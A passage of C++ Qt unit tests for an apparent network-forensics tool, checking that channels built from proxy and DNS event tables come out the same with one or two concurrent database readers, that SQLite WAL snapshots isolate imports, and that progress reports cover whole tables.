    QCOMPARE(parked.eventsRead(), inMemory.eventsRead());
    QVERIFY(whole.size() >= 8 * 3);
    sameChannels(runs, whole);
}

void TestChannelModel::twoReadersGiveTheSameChannels() {
    // Issue 20: the events read in two parts at once, each half of every table on its own
    // connection, make every channel as one reader does, in the same order, in memory and parked;
    // an import that commits while they read is seen by neither.
    Fixture f;
    fleet(f);
    const ScoringConfig config = ScoringConfig::fromYaml(defaults());
    const WebServiceCatalog catalog = WebServiceCatalog::load();
    for (const int64_t budget : {int64_t(1) << 40, int64_t(150)}) {
        ChannelBuilder one(f.db(), catalog, config);
        one.setPartitionEvents(budget);
        const std::vector<BuiltChannel> want = one.build();
        QCOMPARE(one.partsRead(), 1);
        QVERIFY(want.size() >= 8 * 3);
        QVERIFY(std::any_of(want.begin(), want.end(),
                            [](const BuiltChannel& b) { return b.features.destination == "c2.example.net"; }));
        QVERIFY(std::any_of(want.begin(), want.end(),
                            [](const BuiltChannel& b) { return !b.features.userAgent.isEmpty(); }));
        ReadSnapshot snapshot(f.db(), true);
        QVERIFY(snapshot.second() != nullptr);
        {
            // Another program imports a line of a host whose events are in both halves.
            auto other = CaseStore::open(f.path());
            execSql(other->db(), "INSERT INTO proxy_events(evidence_id, line_no, ts_us, host_id, domain_id, method, "
                                 "path) VALUES (1, 99999, " +
                                     std::to_string(kT0 + 5000 * kS) + ", 1, 2, 'GET', '/check')");
        }
        ChannelBuilder two(f.db(), catalog, config);
        two.setPartitionEvents(budget);
        two.setSecondReader(snapshot.second());
        const std::vector<BuiltChannel> got = two.build();
        QCOMPARE(two.partsRead(), 2);
        QCOMPARE(two.eventsRead(), one.eventsRead());
        QCOMPARE(two.partitions(), one.partitions());
        sameChannels(got, want);
        if (QTest::currentTestFailed()) {
            return;
        }
        snapshot.end();
        execSql(f.db(), "DELETE FROM proxy_rows WHERE line_no = 99999"); // the next round as this one
    }
}

void TestChannelModel::twoReadersShareOneSnapshot() {
    // The second reader begins inside the write lock of a third connection, so no commit can fall
    // between the two snapshots; where an import holds that lock, the pass reads on one connection
    // and never waits on the writer.
    Fixture f;
    f.host(1, "WS-1", "workstation", "10.0.0.1");
    f.domain(1, "api.dropbox.com", "dropbox.com");
    f.proxy(1, 1, kT0, "GET", "/a");
    auto other = CaseStore::open(f.path());
    const std::string insert =
        "INSERT INTO proxy_events(evidence_id, line_no, ts_us, host_id, domain_id, method) VALUES (1, 2, " +
        std::to_string(kT0 + kS) + ", 1, 1, 'GET')";
    {
        ReadSnapshot snapshot(f.db(), true);
        QVERIFY(snapshot.second() != nullptr);
        execSql(other->db(), insert); // commits: WAL readers do not hold writers back
        QCOMPARE(queryInt(f.db(), "SELECT count(*) FROM proxy_rows").value(), int64_t(1));
        QCOMPARE(queryInt(snapshot.second(), "SELECT count(*) FROM proxy_rows").value(), int64_t(1));
        QCOMPARE(queryInt(other->db(), "SELECT count(*) FROM proxy_rows").value(), int64_t(2));
    }
    QCOMPARE(queryInt(f.db(), "SELECT count(*) FROM proxy_rows").value(), int64_t(2));
    // An import holding the write lock: one reader, at once, on the state committed before it.
    execSql(other->db(), "BEGIN IMMEDIATE");
    execSql(other->db(), "DELETE FROM proxy_rows");
    QElapsedTimer waited;
    waited.start();
    {
        ReadSnapshot snapshot(f.db(), true);
        QCOMPARE(snapshot.second(), nullptr);
        QCOMPARE(queryInt(f.db(), "SELECT count(*) FROM proxy_rows").value(), int64_t(2));
    }
    QVERIFY2(waited.elapsed() < 3000, qPrintable(QString::number(waited.elapsed())));
    execSql(other->db(), "ROLLBACK");
}

void TestChannelModel::progressCountsBothReadingParts() {
    // The window's progress followed the first reading part alone: its total was that part's
    // half of the table's ids, and the second part's rows were never counted. Both are now, in
    // one reader and in two: the reads' last report for a table is the whole table's span.
    Fixture f;
    fleet(f);
    const ScoringConfig config = ScoringConfig::fromYaml(defaults());
    const WebServiceCatalog catalog = WebServiceCatalog::load();
    const int64_t proxySpan = queryInt(f.db(), "SELECT max(id) - min(id) + 1 FROM proxy_rows").value();
    const int64_t dnsSpan = queryInt(f.db(), "SELECT max(id) - min(id) + 1 FROM dns_rows").value();
    QVERIFY(proxySpan > 20);
    QVERIFY(dnsSpan > 20);
    for (const bool two : {false, true}) {
        ReadSnapshot snapshot(f.db(), two);
        ChannelBuilder builder(f.db(), catalog, config);
        builder.setProgressEvery(3);
        if (two) {
            QVERIFY(snapshot.second() != nullptr);
            builder.setSecondReader(snapshot.second());
        }
        std::map<QString, std::vector<std::pair<int64_t, int64_t>>> reports; // phase: (done, total)
        builder.build([&](const QString& phase, int64_t done, int64_t total) {
            reports[phase].emplace_back(done, total);
            return true;
        });
        QCOMPARE(builder.partsRead(), two ? 2 : 1);
        for (const auto& [phase, span] : {std::pair{QStringLiteral("reading proxy requests"), proxySpan},
                                          std::pair{QStringLiteral("reading DNS queries"), dnsSpan}}) {
            const auto& r = reports[phase];
            QVERIFY2(r.size() >= 2, qPrintable(phase));
            for (const auto& [done, total] : r) {
                QCOMPARE(total, span); // the whole table, never a part's half
                QVERIFY2(done >= 0 && done <= total,
                         qPrintable(QStringLiteral("%1: %2 of %3").arg(phase).arg(done).arg(total)));
            }
            QCOMPARE(r.back().first, span); // both halves counted to the end
        }
    }
}

QTEST_GUILESS_MAIN(TestChannelModel)
#include "tst_channel_model.moc"
